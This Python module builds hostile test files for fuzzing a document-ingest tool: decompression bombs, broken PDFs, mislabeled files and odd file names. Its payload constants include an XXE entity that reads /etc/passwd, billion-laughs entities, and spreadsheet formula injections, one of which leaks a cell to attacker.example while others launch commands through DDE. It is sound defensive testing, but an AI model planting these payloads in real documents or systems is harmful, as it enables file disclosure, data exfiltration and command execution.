"""Hostile and broken files, made from the sample operation's documents (shared by bench/fuzz.py and the test slice).

What a careless user or an attacker hands `auditpack ingest`: byte flips and truncations of every
sample kind, encrypted and broken-xref PDFs, page-count and media-box extremes, decompression-bomb
images, zip and XML-entity bombs inside DOCX/XLSX, sheets of a million rows, formula cells,
mislabeled extensions and odd file names. Each file carries its attack class, so a run can be
counted by class; `slice_` picks a few of every class for the fast test.

Everything is built from seeded randomness and the sample documents: the same seed gives the same
files. Names are bytes (some are not UTF-8) and are written with `os.fsdecode`.
"""
from __future__ import annotations

import io
import os
import random
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

KINDS = (".pdf", ".docx", ".xlsx", ".csv")


@dataclass(frozen=True)
class Hostile:
    cls: str        # the attack class ("flip", "zip-bomb", ...)
    name: bytes     # the file name as the file system will hold it
    data: bytes
    folder: bytes = b""  # a sub-folder (b".hidden" to test skipped folders)


@dataclass(frozen=True)
class Scale:
    flips: int = 13           # byte-flip variants per sample file
    truncations: int = 9      # truncations per sample file
    bomb_mb: int = 1024       # uncompressed size of a zip-bomb member
    stream_mb: int = 300      # inflated size of a PDF content-stream bomb
    csv_rows: int = 1_000_000
    png_side: int = 30_000    # a decompression-bomb PNG is side x side pixels
    pages: int = 1000         # a PDF over the page budget
    per_kind: int | None = None  # sample files used per kind (None: all)


FULL = Scale()
SLICE = Scale(flips=1, truncations=1, bomb_mb=300, stream_mb=2, csv_rows=210_000, png_side=10_000, pages=520,
              per_kind=1)


# ---------------------------------------------------------------- small builders
def pdf_from_objects(objs: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A PDF with a correct xref from numbered object bodies (object 1 is the catalog)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, trailer_extra, xref))
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _one_page(media: bytes, content: bytes, resources: bytes = b"<< >>", extra_objs: list[bytes] = ()) -> bytes:
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R >>" % (media, resources),
            content, *extra_objs]
    return pdf_from_objects(objs)


def text_pdf(lines: list[str], title: str = "", author: str = "") -> bytes:
    from reportlab.lib.pagesizes import letter
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=letter)
    c.setTitle(title)
    c.setAuthor(author)
    y = 740
    for line in lines:
        c.drawString(50, y, line)
        y -= 16
    c.showPage()
    c.save()
    return buf.getvalue()


def rezip(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """An Office package with members replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = (replace or {}).get(info.filename, src.read(info.filename))
            dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def zip_bomb_member(data: bytes, name: str, mb: int) -> bytes:
    """`data` (a zip package) plus a member of `mb` MB of zeros, streamed so it is never held in memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        chunk = b"\0" * (1024 * 1024)
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with dst.open(info, "w", force_zip64=True) as f:
            for _ in range(mb):
                f.write(chunk)
    return out.getvalue()


def png_bomb(side: int) -> bytes:
    """A grayscale PNG of side x side pixels of zeros: a few hundred KB that decodes to side^2 bytes."""
    raw = zlib.compressobj(9)
    row = b"\0" * (side + 1)
    idat = b"".join(raw.compress(row) for _ in range(side)) + raw.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    ihdr = side.to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def minimal_xlsx(sheet_rows: Iterator[bytes], dimension: bytes = b"") -> bytes:
    """An XLSX written by hand (fast for a million rows): one sheet of the given <row> elements."""
    ct = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
          b'"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
          b'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxml'
          b'formats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
          b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
          b'<sheet name="Log" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wbrels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
              b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
              b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", wbrels)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                    b'spreadsheetml/2006/main">' + dimension + b"<sheetData>")
            for r in sheet_rows:
                f.write(r)
            f.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _istr(ref: str, text: str) -> bytes:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'.encode()


LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10)) + b"]>\n")
XXE = b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"]


# ---------------------------------------------------------------- classes of hostile files
def _samples(sample: Path, scale: Scale) -> list[Path]:
    out = []
    for suffix in KINDS:
        files = sorted(p for p in sample.rglob(f"*{suffix}") if p.is_file())
        out += files[: scale.per_kind] if scale.per_kind else files
    return out


def mutations(sample: Path, scale: Scale, rng: random.Random) -> Iterator[Hostile]:
    """Byte flips (1 to 64 random bytes, a flipped run, a zeroed block) and truncations of every sample file."""
    for p in _samples(sample, scale):
        data = p.read_bytes()
        for k in range(scale.flips):
            b = bytearray(data)
            style = k % 3
            if style == 0:
                for _ in range(rng.choice((1, 4, 16, 64))):
                    b[rng.randrange(len(b))] = rng.randrange(256)
            elif style == 1:
                at = rng.randrange(len(b))
                for i in range(at, min(len(b), at + rng.randrange(8, 512))):
                    b[i] ^= 0xFF
            else:
                at, n = rng.randrange(len(b)), rng.randrange(16, 4096)
                b[at: at + n] = bytes(len(b[at: at + n]))  # a zeroed block
            yield Hostile("flip", f"flip{k:02d}-{p.name}".encode(), bytes(b))
        for k in range(scale.truncations):
            cut = [1, 8, len(data) // 2, len(data) - 1][k] if k < 4 else rng.randrange(1, len(data))
            yield Hostile("truncate", f"cut{k:02d}-{p.name}".encode(), data[:cut])


def pdfs(scale: Scale) -> Iterator[Hostile]:
    from pypdf import PdfWriter

    good = text_pdf(["Invoice No.: AOM-1001", "Invoice Date: 03/04/2026", "Total USD 120.00"])
    for algo in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        w = PdfWriter(clone_from=io.BytesIO(good))
        w.encrypt(user_password="secret", owner_password="owner", algorithm=algo)
        buf = io.BytesIO()
        w.write(buf)
        yield Hostile("encrypted-pdf", f"locked-{algo}.pdf".encode(), buf.getvalue())
    w = PdfWriter(clone_from=io.BytesIO(good))
    w.encrypt(user_password="", owner_password="owner")  # opens without a password: readable
    buf = io.BytesIO()
    w.write(buf)
    yield Hostile("encrypted-pdf", b"owner-only.pdf", buf.getvalue())
    sx = good.rindex(b"startxref")
    yield Hostile("broken-xref", b"xref-offset.pdf", good[:sx] + b"startxref\n999999\n%%EOF\n")
    yield Hostile("broken-xref", b"xref-missing.pdf", good[: good.rindex(b"xref")] + b"%%EOF\n")
    yield Hostile("broken-xref", b"xref-shifted.pdf", good.replace(b"0000000", b"0000001"))
    yield Hostile("broken-xref", b"xref-garbage.pdf", good[:sx] + b"startxref\nabc\n%%EOF\n")
    w = PdfWriter()
    for _ in range(scale.pages):
        w.add_blank_page(612, 792)
    buf = io.BytesIO()
    w.write(buf)
    yield Hostile("page-count", f"pages-{scale.pages}.pdf".encode(), buf.getvalue())
    yield Hostile("page-count", b"count-lies.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]))
    # a page tree whose kids point back at the tree
    yield Hostile("page-count", b"tree-loop.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]))
    for side in (14400, 200000):
        yield Hostile("media-box", f"media-{side}.pdf".encode(),
                      _one_page(b"[0 0 %d %d]" % (side, side), _stream(b"")))
    yield Hostile("media-box", b"media-negative.pdf", _one_page(b"[0 0 -5 0]", _stream(b"")))
    yield Hostile("media-box", b"media-nan.pdf", _one_page(b"[0 0 1e400 abc]", _stream(b"")))
    # a content stream that inflates to hundreds of MB
    zeros = zlib.compressobj(9)
    chunk = b"0 0 m " * 174_763  # 1 MB of path operators
    blob = b"".join(zeros.compress(chunk) for _ in range(scale.stream_mb)) + zeros.flush()
    yield Hostile("stream-bomb", b"content-bomb.pdf", _one_page(
        b"[0 0 612 792]", b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(blob) + blob + b"\nendstream"))
    # a form XObject that draws itself
    yield Hostile("recursion", b"xobject-loop.pdf", _one_page(
        b"[0 0 612 792]", _stream(b"/X0 Do"), b"<< /XObject << /X0 5 0 R >> >>",
        [_stream(b"/X0 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X0 5 0 R >> >>")]))
    yield Hostile("recursion", b"nested-arrays.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * 200_000 + b"]" * 200_000 + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]))
    yield Hostile("recursion", b"nested-dicts.pdf", pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"<< /A " * 50_000 + b"1" + b" >>" * 50_000 + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]))
    yield Hostile("markup", b"rich-markup.pdf", text_pdf(
        ["Invoice [/bold] No.: [red]AOM-1002[/]", "Invoice Date: 03/05/2026 [/", "Total USD [link=x]9.00"],
        title="[/bold] [/link] [/", author="[red]x[/red] [/...]"))


def images(scale: Scale, rng: random.Random) -> Iterator[Hostile]:
    from PIL import Image, ImageDraw

    img = Image.new("L", (1300, 500), 255)
    d = ImageDraw.Draw(img)
    for i, t in enumerate(["CERTIFICATE OF ORGANIC OPERATION", "Operation: Ural Mills", "Effective: 2026-03-10"]):
        d.text((60, 60 + 80 * i), t, fill=0)
    buf = io.BytesIO()
    img.save(buf, "PNG")
    png = buf.getvalue()
    yield Hostile("image-bomb", f"bomb-{scale.png_side}.png".encode(), png_bomb(scale.png_side))
    yield Hostile("image-bomb", b"bomb-wide.png", png_bomb(1)[:16] + (2**31 - 1).to_bytes(4, "big") +
                  png_bomb(1)[20:])  # a header claiming 2 billion columns (CRC now wrong)
    yield Hostile("truncate", b"cut-photo.png", png[: len(png) // 2])
    b = bytearray(png)
    for _ in range(32):
        b[rng.randrange(100, len(b))] = rng.randrange(256)
    yield Hostile("flip", b"flip-photo.png", bytes(b))
    for magic, ext in ((b"\xff\xd8\xff\xe0", "jpg"), (b"II*\x00", "tif"), (b"GIF89a", "gif"), (b"BM", "bmp"),
                       (b"\x89PNG\r\n\x1a\n", "png")):
        yield Hostile("magic-junk", f"junk.{ext}".encode(), magic + bytes(rng.randrange(256) for _ in range(2000)))


def office(sample: Path, scale: Scale) -> Iterator[Hostile]:
    docx = sorted(sample.rglob("*.docx"))[0].read_bytes()
    xlsx = sorted(sample.rglob("*.xlsx"))[0].read_bytes()
    yield Hostile("zip-bomb", b"bomb.docx", zip_bomb_member(docx, "word/media/image9.bin", scale.bomb_mb))
    yield Hostile("zip-bomb", b"bomb.xlsx", zip_bomb_member(xlsx, "xl/media/image9.bin", scale.bomb_mb))
    many = {f"word/media/m{i}.bin": b"x" for i in range(12_000)}
    yield Hostile("zip-bomb", b"many-members.docx", rezip(docx, add=many))
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>'
    yield Hostile("entity-bomb", b"laughs.docx", rezip(docx, replace={"word/document.xml": LAUGHS + body % b"&lol9;"}))
    yield Hostile("entity-bomb", b"xxe.docx", rezip(docx, replace={"word/document.xml": XXE + body % b"&xxe;"}))
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
             b'<c r="A1" t="inlineStr"><is><t>%s</t></is></c></row></sheetData></worksheet>')
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        first = sorted(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))[0]
    yield Hostile("entity-bomb", b"laughs.xlsx", rezip(xlsx, replace={first: LAUGHS + sheet % b"&lol9;"}))
    yield Hostile("entity-bomb", b"xxe.xlsx", rezip(xlsx, replace={first: XXE + sheet % b"&xxe;"}))
    # a zip directory that understates a member's size: the reader stops at the stated size
    raw = bytearray(docx)
    cd = raw.rfind(b"PK\x01\x02" + raw[raw.find(b"PK\x01\x02") + 4: raw.find(b"PK\x01\x02") + 6])
    if cd > 0:
        raw[cd + 24: cd + 28] = (10).to_bytes(4, "little")
    yield Hostile("zip-bomb", b"size-lies.docx", bytes(raw))


def sheets(scale: Scale) -> Iterator[Hostile]:
    head = "Date,Area,Equipment,Sanitizer,ppm,Cleaned by\n"
    rows = "".join(f"2026-01-{1 + i % 28:02d},Line {i % 7},Mixer {i % 5},Quat,200,A. B.\n" for i in range(1000))
    big = head + rows * (scale.csv_rows // 1000)
    yield Hostile("big-sheet", f"rows-{scale.csv_rows}.csv".encode(), big.encode())
    yield Hostile("big-sheet", b"wide.csv", (",".join("1" for _ in range(20_000)) + "\n").encode() * 250)
    yield Hostile("big-sheet", b"long-field.csv", b"a,b\n" + b"x" * 300_000 + b",1\n")

    def many_rows() -> Iterator[bytes]:
        for i in range(1, scale.csv_rows + 1):
            yield b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d" t="inlineStr"><is><t>Line</t></is></c></row>' % (
                i, i, i, i)
    yield Hostile("big-sheet", f"rows-{scale.csv_rows}.xlsx".encode(), minimal_xlsx(many_rows()))
    yield Hostile("big-sheet", b"far-cell.xlsx", minimal_xlsx(iter([
        b'<row r="1">' + _istr("A1", "Date") + _istr("B1", "Area") + b"</row>",
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'])))
    log = ["Cleaning log", "Date,Area,Equipment,Sanitizer,Concentration ppm,Cleaned by,Verified by"]
    log += [f'2026-02-{i + 1:02d},Line 1,Mixer,Quat,200,"{f.replace(chr(34), chr(34) * 2)}",Q. A.'
            for i, f in enumerate(FORMULAS)]
    yield Hostile("formula", b"formulas-cleaning-log.csv", ("\n".join(log) + "\n").encode())

    def formula_rows() -> Iterator[bytes]:
        yield b'<row r="1">' + b"".join(_istr(f"{c}1", h) for c, h in zip(
            "ABCDEF", ["Date", "Area", "Equipment", "Sanitizer", "Concentration ppm", "Cleaned by"])) + b"</row>"
        for i, f in enumerate(FORMULAS, start=2):
            yield (f'<row r="{i}">'.encode() + _istr(f"A{i}", f"2026-02-{i:02d}") + _istr(f"B{i}", "Line 1")
                   + _istr(f"C{i}", "Mixer") + _istr(f"D{i}", "Quat") + f'<c r="E{i}"><f>1+1</f></c>'.encode()
                   + _istr(f"F{i}", f) + b"</row>")
    yield Hostile("formula", b"formulas-cleaning-log.xlsx", minimal_xlsx(formula_rows()))


def mislabeled(sample: Path) -> Iterator[Hostile]:
    files = {s: sorted(sample.rglob(f"*{s}"))[0].read_bytes() for s in KINDS}
    for real, data in files.items():
        for claimed in (*KINDS, ".png", ".xls", ".txt", ".doc", ""):
            if claimed != real:
                yield Hostile("mislabeled", f"{real[1:]}-as{claimed or '-noext'}".encode() + claimed.encode(), data)


def odd_names(sample: Path) -> Iterator[Hostile]:
    csv = sorted(sample.rglob("*.csv"))[0].read_bytes()
    pdf = sorted(sample.rglob("*.pdf"))[0].read_bytes()
    names = [b"\xff\xfe_bad_utf8.csv", "été.csv".encode("latin-1"), b"a" * 251 + b".csv",
             ("é" * 125 + ".pdf").encode(), b"new\nline.csv", b"\x1b[31mansi\x1b[0m.csv", b"[red]x[bold]y.csv",
             b"-rf.csv", "\u202efdp.exe.pdf".encode(), b"con.pdf", b"no_extension", b" leading space.csv",
             b"trailing dot.csv.", b"tab\tname.csv"]
    for i, n in enumerate(names):
        # contents differ a little, or they would all be duplicates of each other
        data = (csv + b"\n" * (i + 1)) if not n.endswith(b".pdf") else pdf + b"\n%" + b"x" * i
        yield Hostile("odd-name", n, data)
    yield Hostile("hidden", b".hidden.csv", csv + b"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n")
    yield Hostile("hidden", b"inside-hidden-folder.csv", csv + b"\n" * 30, folder=b".cache")


def other(rng: random.Random) -> Iterator[Hostile]:
    yield Hostile("empty", b"empty.pdf", b"")
    yield Hostile("empty", b"spaces.csv", b"   \n\n  \t\n")
    yield Hostile("binary", b"random.bin", bytes(rng.randrange(256) for _ in range(4096)))
    yield Hostile("binary", b"nul.txt", b"\0" * 4096)
    yield Hostile("binary", b"ole-junk.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(4096)))
    yield Hostile("binary", b"zip-junk.docx", b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(4096)))
    yield Hostile("binary", b"pdf-junk.pdf", b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(4096)))
    yield Hostile("binary", b"data.json", b'{"invoice": "AOM-1", "total": 1}')


def generate(sample: Path, scale: Scale = FULL, seed: int = 1) -> Iterator[Hostile]:
    """Every hostile file, class by class."""
    rng = random.Random(seed)
    yield from mutations(sample, scale, rng)
    yield from pdfs(scale)
    yield from images(scale, rng)
    yield from office(sample, scale)
    yield from sheets(scale)
    yield from mislabeled(sample)
    yield from odd_names(sample)
    yield from other(rng)


def slice_(sample: Path, seed: int = 1) -> list[Hostile]:
    """A few files of every class (the fast test): mutations of one file per kind, all the specials,
    two mislabelings per kind."""
    out, seen = [], {}
    most = {"mislabeled": 3, "odd-name": 6, "binary": 3, "magic-junk": 2, "encrypted-pdf": 2, "broken-xref": 2,
            "media-box": 1, "recursion": 2, "page-count": 2}
    for h in generate(sample, SLICE, seed):
        n = seen.get(h.cls, 0)
        if n >= most.get(h.cls, 99):
            continue
        seen[h.cls] = n + 1
        out.append(h)
    return out


def write(items: list[Hostile] | Iterator[Hostile], folder: Path) -> list[tuple[Hostile, Path]]:
    """Write each file under folder/<class>/ (names as bytes, so not-UTF-8 names stay as they are)."""
    written = []
    for h in items:
        d = os.path.join(os.fsencode(folder), h.cls.encode(), h.folder) if h.folder else \
            os.path.join(os.fsencode(folder), h.cls.encode())
        os.makedirs(d, exist_ok=True)
        path = os.path.join(d, h.name)
        with open(path, "wb") as f:
            f.write(h.data)
        written.append((h, Path(os.fsdecode(path))))
    return written
